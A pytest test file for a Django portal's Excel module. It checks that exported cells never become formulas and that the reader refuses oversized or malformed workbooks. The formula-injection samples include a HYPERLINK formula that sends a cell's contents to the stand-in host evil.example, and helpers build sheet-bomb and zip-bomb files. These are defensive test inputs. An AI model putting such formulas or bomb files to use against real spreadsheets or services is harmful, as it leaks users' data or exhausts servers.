"""portal.xlsx: the one safe writer and the one bounded reader of Excel workbooks.

The hostile workbooks are written by hand (a zip of a few XML parts), so a file of a
million rows weighs a few kilobytes here, as it did in the upload that took ~20 CPU-minutes.
"""

from __future__ import annotations

import datetime as dt
import re
import time
import zipfile
from collections.abc import Iterable
from decimal import Decimal
from io import BytesIO
from typing import Any

import pytest
from django.utils import timezone, translation
from openpyxl import load_workbook

from portal import xlsx
from portal.errors import PayloadTooLarge, ValidationFailed

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1",
]
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- helpers -----------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _english() -> Iterable[None]:
    """Messages are checked in English."""
    with translation.override("en"):
        yield


def workbook_zip(
    sheet: bytes | Iterable[bytes],
    *,
    strings: bytes | None = None,
    styles: bytes | None = None,
    workbook_pr: str = "",
    sheet_type: str = "worksheet",
) -> bytes:
    """A minimal .xlsx written by hand: its first sheet's XML is ``sheet`` (or the chunks
    it yields, streamed into the zip so that a huge sheet costs little memory)."""
    rels = [
        f'<Relationship Id="rId1" Type="{DOC_RELS}/{sheet_type}" Target="worksheets/sheet1.xml"/>'
    ]
    if strings is not None:
        rels.append(
            f'<Relationship Id="rId2" Type="{DOC_RELS}/sharedStrings" Target="sharedStrings.xml"/>'
        )
    if styles is not None:
        rels.append(f'<Relationship Id="rId3" Type="{DOC_RELS}/styles" Target="styles.xml"/>')
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" '
            f'Type="{DOC_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook xmlns="{SHEET_NS}" xmlns:r="{DOC_RELS}">'
            f'{workbook_pr}<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{"".join(rels)}'
            "</Relationships>",
        )
        if strings is not None:
            archive.writestr("xl/sharedStrings.xml", strings)
        if styles is not None:
            archive.writestr("xl/styles.xml", styles)
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            for chunk in [sheet] if isinstance(sheet, bytes) else sheet:
                part.write(chunk)
    return out.getvalue()


def sheet_xml(rows: str, before: str = "") -> bytes:
    return (
        f'<worksheet xmlns="{SHEET_NS}">{before}<sheetData>{rows}</sheetData></worksheet>'.encode()
    )


def read(
    content: bytes, **limits: Any
) -> tuple[list[tuple[int, tuple[object, ...]]], xlsx.SheetReader]:
    reader = xlsx.SheetReader(BytesIO(content), **{"max_rows": 100, **limits})
    return list(reader.rows()), reader


def refusal(content: bytes, **limits: Any) -> tuple[str, xlsx.SheetReader]:
    reader = xlsx.SheetReader(BytesIO(content), **{"max_rows": 100, **limits})
    with pytest.raises(ValidationFailed) as caught:
        list(reader.rows())
    assert caught.value.code == "invalid_file"
    assert caught.value.detail == {"file": [str(caught.value.message)]}
    return str(caught.value.message), reader


def sheet_bomb(rows: int) -> Iterable[bytes]:
    """A header, then ``rows`` rows whose only cell is in the last column (XFD)."""
    yield f'<worksheet xmlns="{SHEET_NS}"><sheetData>'.encode()
    yield b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
    block = b'<row><c r="XFD1"><v>1</v></c></row>' * 10_000
    for _ in range(rows // 10_000):
        yield block
    yield b"</sheetData></worksheet>"


# --- writing -----------------------------------------------------------------------------


def test_formula_looking_text_is_written_as_text_never_as_a_formula() -> None:
    content = xlsx.write_workbook(
        title="单位", headers=["名称", "备注"], rows=[[text, text] for text in FORMULAS]
    )
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    body = list(sheet.iter_rows(min_row=2))
    # (A carriage return comes back as a line feed or, with lxml installed, as itself.)
    assert [row[0].value.replace("\r", "\n") for row in body] == [
        text.replace("\r", "\n") for text in FORMULAS
    ]
    # Excel's quote prefix: the cell stays text even when someone edits it.
    assert all(row[0].quotePrefix for row in body)
    with zipfile.ZipFile(BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert xml.count('t="inlineStr"') == 2 + 2 * len(FORMULAS)


def test_text_that_merely_contains_a_trigger_is_left_alone() -> None:
    content = xlsx.write_workbook(title="x", headers=["a"], rows=[["一村 - 二村"], ["a=b"]])
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert [(c.value, c.quotePrefix) for (c,) in sheet.iter_rows(min_row=2)] == [
        ("一村 - 二村", False),
        ("a=b", False),
    ]


def test_numbers_stay_numbers_and_error_codes_stay_text() -> None:
    content = xlsx.write_workbook(
        title="x", headers=["a"], rows=[[-5], [Decimal("24.514900")], ["#N/A"], [True]]
    )
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2)] == [
        (-5, "n"),
        (24.5149, "n"),
        ("#N/A", "s"),
        (True, "b"),
    ]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("一村\x07站", "一村\ufffd站"),
        ("\x00\x1f", "\ufffd\ufffd"),
        ("a\ud800b", "a\ufffdb"),
        ("a\uffffb", "a\ufffdb"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("长" * 40_000, "长" * xlsx.MAX_CELL_CHARS),
        (float("nan"), "nan"),
        (float("inf"), "inf"),
    ],
    ids=[
        "bell",
        "nul",
        "lone surrogate",
        "non-character",
        "tab and newline",
        "too long",
        "nan",
        "inf",
    ],
)
def test_any_value_is_written_without_failing(value: Any, written: Any) -> None:
    content = xlsx.write_workbook(title="x", headers=["a"], rows=[[value]])
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert sheet.cell(2, 1).value == written


def test_aware_datetimes_are_written_in_local_time() -> None:
    moment = dt.datetime(2026, 1, 2, 0, 30, tzinfo=dt.UTC)
    content = xlsx.write_workbook(title="x", headers=["at"], rows=[[moment]])
    assert load_workbook(BytesIO(content)).worksheets[0].cell(2, 1).value == (
        timezone.localtime(moment).replace(tzinfo=None)
    )


def test_headers_widths_and_sheet_title() -> None:
    content = xlsx.write_workbook(
        title="单位:一览/[2026]*?" + "长" * 40, headers=["=名称", "类型"], rows=[], widths=[30, 12]
    )
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert re.fullmatch(r"[^\[\]:*?/\\]{1,31}", sheet.title)
    assert sheet.title.startswith("单位 一览")
    assert [c.value for c in sheet[1]] == ["=名称", "类型"]
    assert sheet[1][0].font.bold and sheet[1][0].data_type == "s"
    assert sheet.column_dimensions["A"].width == 30
    assert sheet.freeze_panes == "A2"
    with pytest.raises(ValueError, match="one width per header"):
        xlsx.write_workbook(title="x", headers=["a", "b"], rows=[], widths=[1])


def test_drop_downs_refuse_choices_excel_cannot_hold() -> None:
    with pytest.raises(ValueError, match="quotes or commas"):
        xlsx.write_table(title="x", columns=[xlsx.Column("a", choices=["a,b"])], rows=[])


# --- reading -----------------------------------------------------------------------------


def test_what_the_writer_writes_the_reader_reads_back() -> None:
    rows = [["=1+1", 5, dt.date(2026, 3, 4), "a\nb"], ["@x", None, 2.5, True]]
    content = xlsx.write_table(
        title="x",
        columns=[
            xlsx.Column("a"),
            xlsx.Column("b"),
            xlsx.Column("c", number_format="yyyy-mm-dd"),
            xlsx.Column("d"),
        ],
        rows=rows,
    )
    read_rows, reader = read(content)
    assert read_rows == [
        (1, ("a", "b", "c", "d")),
        (2, ("=1+1", 5, dt.datetime(2026, 3, 4), "a\nb")),
        (3, ("@x", None, dt.datetime(1900, 1, 2, 12), True)),  # 2.5 as a date
    ]
    assert (reader.rows_read, reader.cells_read) == (3, 11)  # no cell for None


def test_reads_what_spreadsheet_programs_write() -> None:
    """Shared strings (rich text, phonetic runs, escapes), numbers, dates by style,
    booleans, stored formula results and skipped rows, as Excel and WPS write them."""
    strings = (
        f'<sst xmlns="{SHEET_NS}"><si><t>一村站</t></si>'
        "<si><r><t>二村</t></r><r><rPr><b/></rPr><t>站</t></r><rPh><t>ふりがな</t></rPh></si>"
        "<si><t>a_x000D_b_x005F_x0041_</t></si></sst>"
    ).encode()
    styles = (
        f'<styleSheet xmlns="{SHEET_NS}"><numFmts><numFmt numFmtId="164" formatCode="yyyy/m/d"/>'
        '</numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs>'
        '<cellXfs><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="20"/></cellXfs></styleSheet>'
    ).encode()
    sheet = sheet_xml(
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c></row>'
        '<row r="3"><c r="A3" t="s"><v>2</v></c><c r="B3"><v>350627100201</v></c>'
        '<c r="C3" s="1"><v>45000</v></c><c r="D3" s="2"><v>0.354166666666667</v></c></row>'
        '<row r="4"><c r="A4" t="b"><v>1</v></c><c r="B4"><f>1+1</f><v>2</v></c>'
        '<c r="C4" t="str"><f>"a"&amp;"b"</f><v>ab</v></c><c r="D4" t="e"><v>#N/A</v></c></row>'
        '<row r="5"><c r="A5" s="0"/></row>',
        before='<dimension ref="A1:D5"/>',
    )
    rows, reader = read(workbook_zip(sheet, strings=strings, styles=styles))
    assert rows == [
        (1, ("一村站", None, "二村站")),
        (3, ("a\rb_x0041_", 350627100201, dt.datetime(2023, 3, 15), dt.time(8, 30))),
        (4, (True, 2, "ab", "#N/A")),
        (5, ()),
    ]
    assert reader.rows_read == 5


def test_the_1904_date_system() -> None:
    styles = (
        f'<styleSheet xmlns="{SHEET_NS}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/>'
        "</cellXfs></styleSheet>"
    )
    sheet = sheet_xml('<row r="1"><c r="A1" s="1"><v>1</v></c></row>')
    rows, _reader = read(
        workbook_zip(sheet, styles=styles.encode(), workbook_pr='<workbookPr date1904="1"/>')
    )
    assert rows == [(1, (dt.datetime(1904, 1, 2),))]


def test_the_sheet_bomb_is_refused_after_reading_no_more_than_the_limit() -> None:
    """2.7 million rows with one cell in an ignored column once cost ~20 CPU-minutes: every
    row was read and skipped. Every physical row now counts, and reading stops at the limit."""
    content = workbook_zip(sheet_bomb(1_000_000))
    assert len(content) < 200_000  # a small upload: the XML unpacks to ~35 MB
    started = time.perf_counter()
    message, reader = refusal(content, max_rows=5_010)
    elapsed = time.perf_counter() - started
    assert message.startswith("The sheet goes on past row 5010.")
    # The bound that does not depend on the machine: what was read.
    assert reader.rows_read == 5_010
    assert reader.cells_read <= 5_010
    assert reader.elements_read < 4 * 5_010
    assert elapsed < 5, elapsed  # ~0.02 s here; ~10 s per 100,000 rows before


def test_rows_the_file_leaves_out_count_too() -> None:
    sheet = sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
        '<row r="1000000"><c r="A1000000"><v>1</v></c></row>'
    )
    message, reader = refusal(workbook_zip(sheet), max_rows=50)
    assert message.startswith("The sheet goes on past row 50.")
    assert reader.rows_read == 1


def test_a_declared_dimension_past_the_limit_is_refused_before_any_row() -> None:
    sheet = sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'
    )
    message, reader = refusal(workbook_zip(sheet), max_rows=50)
    assert message.startswith("The sheet goes on past row 50.")
    assert (reader.rows_read, reader.cells_read) == (0, 0)


def test_columns_past_the_limit_are_skipped_and_cells_are_bounded() -> None:
    cells = "".join(f'<c t="inlineStr"><is><t>{i}</t></is></c>' for i in range(1, 41))
    rows, reader = read(workbook_zip(sheet_xml(f"<row>{cells}</row>")), max_columns=5)
    assert rows == [(1, ("1", "2", "3", "4", "5"))]
    assert reader.cells_read == 40
    # No more cells than max_rows × max_columns, however the rows are made.
    wide = "".join(f"<row>{'<c><v>1</v></c>' * 30}</row>" for _ in range(10))
    message, reader = refusal(workbook_zip(sheet_xml(wide)), max_rows=10, max_columns=20)
    assert message == "The sheet has more than 200 cells; split it into several files."
    assert reader.cells_read == 201


def test_elements_outside_the_cells_are_bounded_too() -> None:
    views = "<cols>" + '<col min="1" max="1"/>' * 100_000 + "</cols>"
    message, reader = refusal(workbook_zip(sheet_xml("", before=views)), max_rows=10, max_columns=2)
    assert message == "This workbook holds far more data than this import takes."
    assert reader.elements_read == reader.max_elements + 1


def test_reading_stops_at_the_end_of_the_sheet_data() -> None:
    rest = "<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 100_000 + "</mergeCells>"
    sheet = (
        f'<worksheet xmlns="{SHEET_NS}"><sheetData><row><c><v>1</v></c></row></sheetData>'
        f"{rest}</worksheet>"
    )
    rows, reader = read(workbook_zip(sheet.encode()))
    assert rows == [(1, (1,))]
    assert reader.elements_read < 20  # the package's few small parts and the one row


def test_a_zip_bomb_is_refused_from_the_declared_sizes() -> None:
    content = workbook_zip(sheet_xml("<row><c><v>1</v></c></row>" + " " * 2_000_000))
    message, reader = refusal(content, max_unpacked_bytes=1_000_000)
    assert message == "This workbook holds far more data than this import takes."
    assert reader.elements_read == 0


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "old-format Excel file (.xls)"),
        (b"name,kind\n", "not an Excel workbook (.xlsx)"),
        (workbook_zip(b'<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet/>'), "not an Excel workbook"),
        (workbook_zip(sheet_xml('<row r="2"/><row r="2"/>')), "not an Excel workbook"),
        (workbook_zip(sheet_xml('<row><c r="B1"/><c r="A1"/></row>')), "not an Excel workbook"),
        (
            workbook_zip(sheet_xml('<row><c r="A1" t="s"><v>7</v></c></row>')),
            "not an Excel workbook",
        ),
        (workbook_zip(sheet_xml("<row><c><v>abc</v></c></row>")), "not an Excel workbook"),
        (workbook_zip(b"<worksheet><sheetData><row>"), "not an Excel workbook"),
    ],
    ids=[
        "old xls",
        "csv",
        "entity",
        "rows out of order",
        "cells out of order",
        "unknown shared string",
        "not a number",
        "truncated",
    ],
)
def test_damaged_or_foreign_files_are_refused_with_a_message(content: bytes, fragment: str) -> None:
    message, _reader = refusal(content)
    assert fragment in message


def test_a_workbook_without_a_worksheet() -> None:
    message, _reader = refusal(workbook_zip(sheet_xml(""), sheet_type="chartsheet"))
    assert message == "The workbook has no sheet."


def test_check_size() -> None:
    xlsx.check_size(xlsx.MAX_FILE_BYTES)
    with pytest.raises(PayloadTooLarge) as caught:
        xlsx.check_size(xlsx.MAX_FILE_BYTES + 1)
    assert caught.value.code == "file_too_large"
